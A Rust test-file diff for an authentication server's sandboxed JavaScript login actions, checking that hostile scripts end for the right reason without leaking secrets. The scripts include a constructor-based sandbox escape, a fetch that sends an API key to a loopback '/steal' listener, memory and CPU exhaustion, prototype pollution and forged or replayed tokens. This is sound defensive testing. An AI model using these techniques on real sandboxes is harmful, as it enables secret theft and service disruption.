@@ -5,6 +5,7 @@ use std::io::Read;
 use std::path::{Path, PathBuf};
 use std::time::Duration;
 
+use gatehouse::actions::RunError;
 use gatehouse::types::UserId;
 
 use crate::harness::*;
@@ -18,7 +19,9 @@ fn script(dir: &TempDir, name: &str, source: &str) -> PathBuf {
 
 fn with_actions(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> String {
     let mut config = crate::harness::config("ES256");
-    config.push_str("\n[actions]\ncpu_ms = 100\nmemory_limit_mb = 16\n");
+    // Limits other than the defaults (16 MiB, 100 ms), so the tests show configured values
+    // apply; a generous time limit, so a loaded 2-core machine passes.
+    config.push_str("\n[actions]\ntime_limit_ms = 1500\nmemory_limit_mb = 8\n");
     for (name, path) in post_login {
         config.push_str(&format!(
             "[[actions.post_login]]\nname = \"{name}\"\nfile = \"{}\"\nsecrets = {{ API_KEY = \"action-secret-value-42\" }}\n",
@@ -218,37 +221,72 @@ async fn hostile_actions_end_only_their_own_run() {
             r#"exports.onExecutePostLogin = async (event, api) => {{
                  if (event.user.email === "root@example.com") {{ {body} }}
                  api.idToken.setCustomClaim("ok", true);
+                 api.idToken.setCustomClaim("polluted", ({{}}).isAdmin === true);
                }};"#
         )
     };
-    let cases = [
-        ("loop", "while (true) {}".to_owned()),
-        ("await-loop", "await null; while (true) {}".to_owned()),
-        ("memory", "const a = []; while (true) a.push('x'.repeat(1 << 20));".to_owned()),
-        ("recursion", "const f = (n) => f(n + 1) + 1; f(0);".to_owned()),
-        ("escape", "this.constructor.constructor('return process')().exit(1);".to_owned()),
-        ("fetch", format!("await fetch('http://127.0.0.1:{port}/steal?k=' + event.secrets.API_KEY);")),
-        ("pollute", "Object.prototype.isAdmin = true; throw new Error('leaked ' + event.secrets.API_KEY);".to_owned()),
+    // Each case with the reason it must end for: a case stopped for another reason fails.
+    let cases: [(&str, String, fn(&RunError) -> bool); 7] = [
+        ("loop", "while (true) {}".to_owned(), |e| *e == RunError::Deadline(1500)),
+        ("await-loop", "await null; while (true) {}".to_owned(), |e| *e == RunError::Deadline(1500)),
+        // 8 MiB configured: the memory limit stops it, long before the time limit.
+        ("memory", "const a = []; while (true) a.push('x'.repeat(1 << 20));".to_owned(), |e| *e == RunError::Memory(8)),
+        (
+            "recursion",
+            "const f = (n) => f(n + 1) + 1; f(0);".to_owned(),
+            |e| matches!(e, RunError::Threw(m) if m.contains("Maximum call stack size exceeded")),
+        ),
+        ("escape", "({}).constructor.constructor('return process')().exit(1);".to_owned(), |e| {
+            *e == RunError::Threw("process is not defined".into())
+        }),
+        ("fetch", format!("await fetch('http://127.0.0.1:{port}/steal?k=' + event.secrets.API_KEY);"), |e| {
+            *e == RunError::Threw("fetch is not defined".into())
+        }),
+        (
+            "pollute",
+            "Object.prototype.isAdmin = true; throw new Error('leaked ' + event.secrets.API_KEY);".to_owned(),
+            |e| *e == RunError::Threw("leaked [redacted]".into()),
+        ),
     ];
-    for (name, body) in cases {
+    for (name, body, reason) in cases {
         let path = script(&dir, &format!("{name}.js"), &hostile(&body));
         let app = app_with(&[(name, &path)], &[]).await;
+        assert_eq!(
+            app.core.settings.actions.limits,
+            gatehouse::actions::Limits {
+                memory_bytes: 8 << 20,
+                time: Duration::from_millis(1500),
+                ..Default::default()
+            },
+            "the configured limits are the ones in force"
+        );
         let b = browser();
         let (_, challenge) = pkce();
         let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
         let started = std::time::Instant::now();
         let r = submit_credentials(&app, &b, &url, "root@example.com", OTHER_PASSWORD).await;
-        assert!(started.elapsed() < Duration::from_secs(3), "{name}: bounded by the sandbox limits");
+        assert!(started.elapsed() < Duration::from_secs(6), "{name}: bounded by the sandbox limits");
         assert_eq!(r.status(), 500, "{name}: the login is refused");
         assert!(r.headers().get("location").is_none(), "{name}: no code");
         let body = r.text().await.unwrap();
         assert!(body.contains("Sign-in could not be completed") && body.contains("correlation-id"), "{name}: {body}");
         assert!(!body.contains("action-secret-value-42"), "{name}: the secret is not shown");
+        // Why it ended: the same chain, with the limits the node loaded, on root's event.
+        let event = serde_json::json!({ "user": { "email": "root@example.com" } });
+        let failed = gatehouse::actions::run(
+            &app.core.settings.actions,
+            gatehouse::actions::Trigger::PostLogin,
+            &event,
+            app.core.store.action_cache.as_ref(),
+        )
+        .await
+        .unwrap_err();
+        assert!(reason(&failed.error), "{name}: ended for the wrong reason: {:?}", failed.error);
         // The next, benign login on the same node succeeds, and sees no pollution.
         let id = login_as(&app, &browser(), "web", "ada@example.com", PASSWORD).await;
         let c = claims(&id);
         assert_eq!(c["ok"], true, "{name}: the node still serves logins");
-        assert!(c.get("isAdmin").is_none());
+        assert_eq!(c["polluted"], false, "{name}: Object.prototype is fresh in the next run");
     }
     let mut buf = [0u8; 1];
     assert!(listener.accept().map(|(mut s, _)| s.read(&mut buf)).is_err(), "fetch reached the loopback listener");
@@ -402,6 +440,31 @@ async fn pre_user_registration_shapes_or_refuses_new_users() {
     assert!(app.core.store.users.get(&UserId::parse("auth0|root").unwrap()).await.unwrap().is_none(), "no user stored");
 }
 
+const CONTINUE_SECRET: &str = "action-secret-value-42";
+
+fn sign_hs256(claims: serde_json::Value) -> String {
+    let mut claims = claims;
+    claims["exp"] = (std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() + 60).into();
+    jsonwebtoken::encode(
+        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
+        &claims,
+        &jsonwebtoken::EncodingKey::from_secret(CONTINUE_SECRET.as_bytes()),
+    )
+    .unwrap()
+}
+
+fn verify_hs256(token: &str) -> serde_json::Value {
+    let mut v = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::HS256);
+    v.validate_aud = false;
+    jsonwebtoken::decode::<serde_json::Value>(
+        token,
+        &jsonwebtoken::DecodingKey::from_secret(CONTINUE_SECRET.as_bytes()),
+        &v,
+    )
+    .unwrap()
+    .claims
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn redirect_and_continue_complete_the_login_once() {
     let dir = TempDir::new();
@@ -432,9 +495,11 @@ async fn redirect_and_continue_complete_the_login_once() {
         "no session yet"
     );
     let state = param(&away, "state").unwrap();
-    let token = param(&away, "session_token").unwrap();
-
-    // The external page sends the person back with the token.
+    let sent = param(&away, "session_token").unwrap();
+    // The external page reads the action's token and answers with its own, carrying the
+    // `state` it was sent (as Auth0 requires of the token validateToken checks).
+    let user = verify_hs256(&sent)["user"].as_str().unwrap().to_owned();
+    let token = sign_hs256(serde_json::json!({ "user": user, "state": state }));
     let back = format!("{}?state={state}&session_token={token}", app.url("/continue"));
     let another_browser = browser();
     assert_eq!(
@@ -452,18 +517,20 @@ async fn redirect_and_continue_complete_the_login_once() {
     assert_eq!(id["before_redirect"], true, "claims from before the redirect are kept");
     assert_eq!(b.get(&back).send().await.unwrap().status(), 400, "a continue state works once");
 
-    // A forged token fails validateToken: the login is refused.
+    // Signed with the right secret but made for the first login (another state), or with no
+    // state at all: it does not continue another login.
     let b = browser();
     let (_, challenge) = pkce();
-    let r = submit_credentials(
-        &app,
-        &b,
-        &authorize_url(&app, "web", WEB_REDIRECT, &challenge, &[]),
-        "ada@example.com",
-        PASSWORD,
-    )
-    .await;
-    let state = param(&location(&r), "state").unwrap();
+    let authorize = authorize_url(&app, "web", WEB_REDIRECT, &challenge, &[]);
+    let start = || submit_credentials(&app, &b, &authorize, "ada@example.com", PASSWORD);
+    for replayed in [token.clone(), sign_hs256(serde_json::json!({ "user": "auth0|ada" }))] {
+        let state = param(&location(&start().await), "state").unwrap();
+        let r = b.get(format!("{}?state={state}&session_token={replayed}", app.url("/continue"))).send().await.unwrap();
+        assert_eq!(r.status(), 500, "a token of another login is refused");
+        assert!(r.headers().get("location").is_none());
+    }
+    // A forged token fails validateToken: the login is refused.
+    let state = param(&location(&start().await), "state").unwrap();
     let forged = format!(
         "{}?state={state}&session_token=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYWRtaW4ifQ.AAAA",
         app.url("/continue")
